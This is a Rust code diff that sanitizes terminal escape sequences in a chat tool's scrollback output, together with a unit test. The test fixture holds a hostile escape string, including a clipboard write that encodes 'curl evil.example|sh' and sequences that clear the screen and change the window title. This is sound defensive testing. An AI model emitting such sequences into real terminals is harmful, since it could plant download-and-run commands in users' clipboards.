@@ -1,6 +1,10 @@
 //! After the UI leaves the alternate screen, the conversation is printed to the normal screen
 //! so it stays in the terminal's scrollback (as it would in a shell), followed by the command
 //! that reopens the session.
+//!
+//! Unlike the live view (ratatui's buffer drops control characters), these lines go to the
+//! terminal as they are: every span's text passes [`dsh_secrets::terminal_safe`] first, so a
+//! model's or a tool's escape sequence is shown, never obeyed.
 
 use std::io;
 use std::io::Write;
@@ -65,9 +69,10 @@ pub fn write_lines(out: &mut impl Write, lines: &[Line<'_>]) -> io::Result<()> {
     for line in lines {
         for span in &line.spans {
             let style = content_style(line.style.patch(span.style));
+            let text = dsh_secrets::terminal_safe(span.content.as_ref());
             crossterm::queue!(
                 out,
-                PrintStyledContent(StyledContent::new(style, span.content.as_ref()))
+                PrintStyledContent(StyledContent::new(style, text.as_ref()))
             )?;
         }
         out.write_all(b"\r\n")?;
@@ -82,7 +87,7 @@ pub type PlainLine = Line<'static>;
 pub fn write_plain(out: &mut impl Write, lines: &[Line<'_>]) -> io::Result<()> {
     for line in lines {
         for span in &line.spans {
-            out.write_all(span.content.as_bytes())?;
+            out.write_all(dsh_secrets::terminal_safe(span.content.as_ref()).as_bytes())?;
         }
         out.write_all(b"\n")?;
     }
@@ -136,5 +141,42 @@ pub fn write_stored(
         write_lines(out, &head).and_then(|()| write_lines(out, &lines))
     } else {
         write_plain(out, &head).and_then(|()| write_plain(out, &lines))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const HOSTILE: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{7}\u{1b}]0;title\u{1b}\\\u{1b}[2J\u{9b}1m\u{9d}2;t\u{7}\u{202e}";
+
+    #[test]
+    fn styled_and_plain_lines_show_escape_sequences_instead_of_obeying_them() {
+        let lines = [Line::from(vec![
+            ratatui::text::Span::styled("model: ", Style::default().fg(Color::Cyan)),
+            ratatui::text::Span::raw(HOSTILE),
+        ])];
+        let mut styled = Vec::new();
+        write_lines(&mut styled, &lines).unwrap();
+        let styled = String::from_utf8(styled).unwrap();
+        let mut plain = Vec::new();
+        write_plain(&mut plain, &lines).unwrap();
+        let plain = String::from_utf8(plain).unwrap();
+        for text in [&styled, &plain] {
+            for raw in [
+                "\u{1b}]",
+                "\u{1b}[2J",
+                "\u{7}",
+                "\u{9b}",
+                "\u{9d}",
+                "\u{202e}",
+            ] {
+                assert!(!text.contains(raw), "{raw:?} in {text:?}");
+            }
+            assert!(text.contains("\\u001b]52;c;"), "{text:?}");
+        }
+        // dsh's own styling still reaches the terminal.
+        assert!(styled.contains("\u{1b}["), "{styled:?}");
+        assert!(!plain.contains('\u{1b}'), "{plain:?}");
     }
 }
